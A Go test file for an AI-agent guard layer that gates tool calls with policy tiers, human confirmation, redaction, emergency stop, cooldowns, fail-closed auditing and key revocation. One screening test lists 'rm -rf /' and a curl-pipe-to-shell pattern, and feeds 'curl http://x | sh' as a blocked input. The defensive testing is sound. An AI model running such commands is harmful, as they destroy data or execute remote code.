package guard

import (
	"context"
	"errors"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"agentguard/internal/anomaly"
	"agentguard/internal/audit"
	"agentguard/internal/bus"
	"agentguard/internal/domain"
	"agentguard/internal/gate"
	"agentguard/internal/policy"
	"agentguard/internal/revoke"
	"agentguard/internal/store"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
}

const testPolicy = `version: 1
tools:
  read_file:
    tier: none
  shell:
    tier: 2
    cooldown:
      max_per_hour: 2
  wallet_transfer:
    tier: 2
    escalate:
      - param: amount
        above: 1000
        tier: 1
fallback:
  tier: none
`

// memSink records writes and can be switched into failure.
type memSink struct {
	mu   sync.Mutex
	fail bool
	recs []audit.Record
}

func (s *memSink) Write(rec *audit.Record) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.fail {
		return errors.New("disk full")
	}
	s.recs = append(s.recs, *rec)
	return nil
}

func (s *memSink) Close() error { return nil }

func (s *memSink) setFail(v bool) {
	s.mu.Lock()
	s.fail = v
	s.mu.Unlock()
}

func (s *memSink) entries() []audit.Entry {
	s.mu.Lock()
	defer s.mu.Unlock()
	return audit.Merge(s.recs)
}

type fakeTool struct {
	level domain.SecurityLevel
	calls int
	err   error
}

func (f *fakeTool) Level() domain.SecurityLevel { return f.level }

func (f *fakeTool) Execute(ctx context.Context, params map[string]any) (string, error) {
	f.calls++
	if f.err != nil {
		return "", f.err
	}
	return "ok", nil
}

type fakeControls struct {
	stop    store.Control
	paused  map[string]string
	revoked map[string]bool
	err     error
}

func (c *fakeControls) EmergencyStop(ctx context.Context) (store.Control, error) {
	return c.stop, c.err
}

func (c *fakeControls) IsPaused(ctx context.Context, tool string) (bool, string, error) {
	why, ok := c.paused[tool]
	return ok, why, c.err
}

func (c *fakeControls) IsRevoked(ctx context.Context, subject string) (bool, error) {
	return c.revoked[subject], c.err
}

type fakeConfirmer struct {
	decision gate.Decision
	err      error
	reqs     []gate.Request
}

func (c *fakeConfirmer) Confirm(ctx context.Context, req gate.Request) (gate.Decision, error) {
	c.reqs = append(c.reqs, req)
	return c.decision, c.err
}

type fixture struct {
	guard  *Guard
	sink   *memSink
	log    *audit.Logger
	events *bus.EventBus
}

func newFixture(t *testing.T, cfg Config) *fixture {
	t.Helper()
	path := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(path, []byte(testPolicy), 0o600); err != nil {
		t.Fatalf("write policy: %v", err)
	}
	engine, err := policy.NewEngine(policy.EngineConfig{Path: path, Logger: testLogger()})
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	sink := &memSink{}
	log, err := audit.New(audit.Config{Sink: sink, SideChannel: &strings.Builder{}, Logger: testLogger()})
	if err != nil {
		t.Fatalf("audit.New: %v", err)
	}
	events := bus.NewEventBus(testLogger())

	cfg.Policy = engine
	cfg.Audit = log
	cfg.Events = events
	cfg.Logger = testLogger()
	g, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return &fixture{guard: g, sink: sink, log: log, events: events}
}

func approved() gate.Decision {
	return gate.Decision{
		Approved: true,
		Status:   gate.StatusReplied,
		Reply:    gate.Reply{Text: "yes", From: "alice", Status: gate.StatusReplied},
		Confirmation: audit.Confirmation{
			Required: true, Channel: domain.ConfirmInline, Approved: true, Approver: "alice", LatencyMs: 1200,
		},
	}
}

func TestExecute_ReadRunsWithoutConfirmation(t *testing.T) {
	conf := &fakeConfirmer{}
	f := newFixture(t, Config{Confirmer: conf})
	tool := &fakeTool{level: domain.LevelRead}

	out := f.guard.Execute(context.Background(), Call{Tool: "read_file", User: "alice", Channel: "cli"}, tool)
	if out.Result != audit.ResultSuccess || !out.Executed || out.Output != "ok" {
		t.Fatalf("unexpected outcome %+v", out)
	}
	if len(conf.reqs) != 0 {
		t.Fatal("read call should not prompt")
	}

	entries := f.sink.entries()
	if len(entries) != 1 || entries[0].Result != audit.ResultSuccess || entries[0].Tool != "read_file" {
		t.Fatalf("unexpected audit %+v", entries)
	}
}

func TestExecute_ConfirmedWriteRuns(t *testing.T) {
	conf := &fakeConfirmer{decision: approved()}
	f := newFixture(t, Config{Confirmer: conf})
	tool := &fakeTool{level: domain.LevelWrite}

	out := f.guard.Execute(context.Background(), Call{
		Tool: "shell", User: "alice", Channel: "telegram",
		Params: map[string]any{"command": "ls", "api_token": "t0k"},
	}, tool)
	if out.Result != audit.ResultSuccess || tool.calls != 1 {
		t.Fatalf("unexpected outcome %+v", out)
	}
	if len(conf.reqs) != 1 {
		t.Fatalf("expected one prompt, got %d", len(conf.reqs))
	}
	req := conf.reqs[0]
	if req.ChatID != "alice" || req.Mode != domain.ConfirmInline {
		t.Fatalf("unexpected request %+v", req)
	}
	if req.Params["api_token"] != audit.Redacted {
		t.Fatalf("prompt params not redacted: %v", req.Params)
	}

	e := f.sink.entries()[0]
	if e.Confirmation == nil || !e.Confirmation.Approved || e.Confirmation.Approver != "alice" {
		t.Fatalf("confirmation not audited: %+v", e.Confirmation)
	}
	if e.Params["api_token"] != audit.Redacted {
		t.Fatalf("audit params not redacted: %v", e.Params)
	}
}

func TestExecute_ConfirmationOutcomes(t *testing.T) {
	tests := []struct {
		name     string
		decision gate.Decision
		want     audit.Result
	}{
		{"timeout", gate.Decision{Status: gate.StatusTimeout}, audit.ResultTimeout},
		{"superseded", gate.Decision{Status: gate.StatusSuperseded}, audit.ResultDenied},
		{"cancelled", gate.Decision{Status: gate.StatusCancelled}, audit.ResultDenied},
		{"rejected", gate.Decision{Status: gate.StatusReplied, Reply: gate.Reply{Text: "no", From: "bob"}}, audit.ResultDenied},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, Config{Confirmer: &fakeConfirmer{decision: tt.decision}})
			tool := &fakeTool{level: domain.LevelWrite}

			out := f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice", Channel: "discord"}, tool)
			if out.Result != tt.want {
				t.Fatalf("result = %s, want %s", out.Result, tt.want)
			}
			if tool.calls != 0 || out.Executed {
				t.Fatal("tool must not run")
			}
			entries := f.sink.entries()
			if len(entries) != 1 || entries[0].Result != tt.want {
				t.Fatalf("refusal not audited: %+v", entries)
			}
		})
	}
}

func TestExecute_EscalationWithoutConfirmer(t *testing.T) {
	f := newFixture(t, Config{})
	tool := &fakeTool{level: domain.LevelSign}

	out := f.guard.Execute(context.Background(), Call{
		Tool: "wallet_transfer", User: "alice", Channel: "cli",
		Params: map[string]any{"amount": 5000},
	}, tool)
	if out.Result != audit.ResultEscalated {
		t.Fatalf("result = %s, want escalated", out.Result)
	}
	if out.Policy.EffectiveTier != domain.Tier1 || out.Policy.Tier != domain.Tier2 {
		t.Fatalf("unexpected tiers %+v", out.Policy)
	}
	if tool.calls != 0 {
		t.Fatal("tool must not run")
	}
	e := f.sink.entries()[0]
	if e.EffectiveTier != domain.Tier1 {
		t.Fatalf("effective tier not audited: %v", e.EffectiveTier)
	}
}

func TestExecute_ConfirmerErrorIsRefusal(t *testing.T) {
	f := newFixture(t, Config{Confirmer: &fakeConfirmer{err: gate.ErrNoSender}})
	tool := &fakeTool{level: domain.LevelWrite}

	out := f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice", Channel: "sms"}, tool)
	if out.Result != audit.ResultError || tool.calls != 0 {
		t.Fatalf("unexpected outcome %+v", out)
	}
	if !strings.Contains(out.Reason, "confirmation unavailable") {
		t.Fatalf("reason = %q", out.Reason)
	}
}

func TestExecute_Controls(t *testing.T) {
	tests := []struct {
		name     string
		controls *fakeControls
		call     Call
		want     audit.Result
		reason   string
	}{
		{
			name:     "emergency stop",
			controls: &fakeControls{stop: store.Control{Active: true, Reason: "operator"}},
			call:     Call{Tool: "read_file", User: "alice"},
			want:     audit.ResultEmergencyStopped,
			reason:   "emergency stop",
		},
		{
			name:     "paused",
			controls: &fakeControls{paused: map[string]string{"read_file": "auto-revoke"}},
			call:     Call{Tool: "read_file", User: "alice"},
			want:     audit.ResultDenied,
			reason:   "paused",
		},
		{
			name:     "revoked key",
			controls: &fakeControls{revoked: map[string]bool{"key:k1": true}},
			call:     Call{Tool: "read_file", User: "alice", SessionKeyID: "k1"},
			want:     audit.ResultDenied,
			reason:   "revoked",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, Config{Controls: tt.controls})
			tool := &fakeTool{level: domain.LevelRead}
			out := f.guard.Execute(context.Background(), tt.call, tool)
			if out.Result != tt.want || !strings.Contains(out.Reason, tt.reason) {
				t.Fatalf("outcome = %s %q", out.Result, out.Reason)
			}
			if tool.calls != 0 {
				t.Fatal("tool must not run")
			}
		})
	}
}

func TestExecute_ControlStoreErrorFailsClosedForWrites(t *testing.T) {
	controls := &fakeControls{err: errors.New("database is locked")}
	f := newFixture(t, Config{Controls: controls, Confirmer: &fakeConfirmer{decision: approved()}})

	write := &fakeTool{level: domain.LevelWrite}
	if out := f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice"}, write); out.Result != audit.ResultError {
		t.Fatalf("write result = %s, want error", out.Result)
	}
	read := &fakeTool{level: domain.LevelRead}
	if out := f.guard.Execute(context.Background(), Call{Tool: "read_file", User: "alice"}, read); out.Result != audit.ResultSuccess {
		t.Fatalf("read result = %s, want success", out.Result)
	}
}

func TestExecute_Cooldown(t *testing.T) {
	f := newFixture(t, Config{Confirmer: &fakeConfirmer{decision: approved()}})
	tool := &fakeTool{level: domain.LevelWrite}
	call := Call{Tool: "shell", User: "alice"}

	for i := 0; i < 2; i++ {
		if out := f.guard.Execute(context.Background(), call, tool); out.Result != audit.ResultSuccess {
			t.Fatalf("call %d: %s %q", i, out.Result, out.Reason)
		}
	}
	out := f.guard.Execute(context.Background(), call, tool)
	if out.Result != audit.ResultDenied || !strings.Contains(out.Reason, "hourly") {
		t.Fatalf("third call = %s %q", out.Result, out.Reason)
	}
	if tool.calls != 2 {
		t.Fatalf("tool ran %d times", tool.calls)
	}
}

func TestExecute_RefusedCallsDoNotConsumeCooldown(t *testing.T) {
	conf := &fakeConfirmer{decision: gate.Decision{Status: gate.StatusTimeout}}
	f := newFixture(t, Config{Confirmer: conf})
	tool := &fakeTool{level: domain.LevelWrite}

	for i := 0; i < 5; i++ {
		f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice"}, tool)
	}
	if _, ok := f.guard.Policy().Tracker().Snapshot("shell"); ok {
		t.Fatal("refused calls must not be recorded against the cooldown")
	}
}

func TestExecute_Screen(t *testing.T) {
	screen, err := NewScreen([]string{"rm -rf /", `curl .*\| *sh`}, nil)
	if err != nil {
		t.Fatalf("NewScreen: %v", err)
	}
	conf := &fakeConfirmer{decision: approved()}
	f := newFixture(t, Config{Screen: screen, Confirmer: conf})
	tool := &fakeTool{level: domain.LevelWrite}

	out := f.guard.Execute(context.Background(), Call{
		Tool: "shell", User: "alice", Params: map[string]any{"command": "curl http://x | sh"},
	}, tool)
	if out.Result != audit.ResultDenied || tool.calls != 0 {
		t.Fatalf("unexpected outcome %+v", out)
	}
	if len(conf.reqs) != 0 {
		t.Fatal("blocked command should not reach the prompt")
	}
}

func TestExecute_DegradedAuditFailsClosed(t *testing.T) {
	f := newFixture(t, Config{Confirmer: &fakeConfirmer{decision: approved()}})
	f.sink.setFail(true)

	write := &fakeTool{level: domain.LevelWrite}
	out := f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice"}, write)
	if out.Result != audit.ResultError || write.calls != 0 || out.AuditDurable {
		t.Fatalf("write should be refused while degraded: %+v", out)
	}

	read := &fakeTool{level: domain.LevelRead}
	out = f.guard.Execute(context.Background(), Call{Tool: "read_file", User: "alice"}, read)
	if out.Result != audit.ResultSuccess || read.calls != 1 {
		t.Fatalf("read should still run: %+v", out)
	}
	if !f.log.IsDegraded() {
		t.Fatal("logger should be degraded")
	}

	f.sink.setFail(false)
	f.guard.Execute(context.Background(), Call{Tool: "read_file", User: "alice"}, read)
	if f.log.IsDegraded() {
		t.Fatal("logger should recover on the next write")
	}
	entries := f.sink.entries()
	if len(entries) != 3 {
		t.Fatalf("expected 3 merged entries after flush, got %d", len(entries))
	}
	if entries[0].Result != audit.ResultError || entries[0].Reason != "audit log unavailable" {
		t.Fatalf("first entry = %+v", entries[0])
	}
}

func TestExecute_ToolErrorIsAudited(t *testing.T) {
	f := newFixture(t, Config{})
	tool := &fakeTool{level: domain.LevelRead, err: errors.New("no such file")}

	out := f.guard.Execute(context.Background(), Call{Tool: "read_file", User: "alice"}, tool)
	if out.Result != audit.ResultError || out.Err == nil || !out.Executed {
		t.Fatalf("unexpected outcome %+v", out)
	}
	if e := f.sink.entries()[0]; e.Error != "no such file" {
		t.Fatalf("error not audited: %+v", e)
	}
}

func TestExecute_ConsecutiveDenialsTriggerRevoke(t *testing.T) {
	var revoked []string
	svc := revoke.New(revoke.Config{
		Detector: anomaly.NewDetector(anomaly.Config{Logger: testLogger()}),
		Handlers: revoke.Handlers{
			RevokeSessionKey: func(ctx context.Context, tr revoke.Trigger) error {
				revoked = append(revoked, tr.Subject())
				return nil
			},
			Notify: func(ctx context.Context, tr revoke.Trigger, msg string) error { return nil },
		},
		Logger: testLogger(),
	})
	conf := &fakeConfirmer{decision: gate.Decision{Status: gate.StatusReplied, Reply: gate.Reply{Text: "no"}}}
	f := newFixture(t, Config{Confirmer: conf, Revoke: svc})
	tool := &fakeTool{level: domain.LevelWrite}

	var last Outcome
	for i := 0; i < 3; i++ {
		last = f.guard.Execute(context.Background(), Call{Tool: "shell", User: "mallory", SessionKeyID: "sk-9"}, tool)
	}
	if len(last.Actions) != 1 || last.Actions[0].Action != anomaly.ActionRevokeSessionKey {
		t.Fatalf("expected one revoke action, got %+v", last.Actions)
	}
	if len(revoked) != 1 || revoked[0] != "key:sk-9" {
		t.Fatalf("revoked = %v", revoked)
	}
}

func TestExecute_EmitsEvents(t *testing.T) {
	f := newFixture(t, Config{Confirmer: &fakeConfirmer{decision: approved()}})
	tool := &fakeTool{level: domain.LevelWrite}

	f.guard.Execute(context.Background(), Call{Tool: "shell", User: "alice"}, tool)

	var types []string
	for _, e := range f.events.Replay("*", time.Time{}) {
		types = append(types, e.Type)
	}
	want := []string{
		bus.EventConfirmationRequested,
		bus.EventConfirmationResolved,
		bus.EventToolAuthorized,
		bus.EventToolExecuted,
	}
	if strings.Join(types, ",") != strings.Join(want, ",") {
		t.Fatalf("events = %v, want %v", types, want)
	}
}

func TestNew_RequiresPolicyAndAudit(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("expected error without policy engine")
	}
}
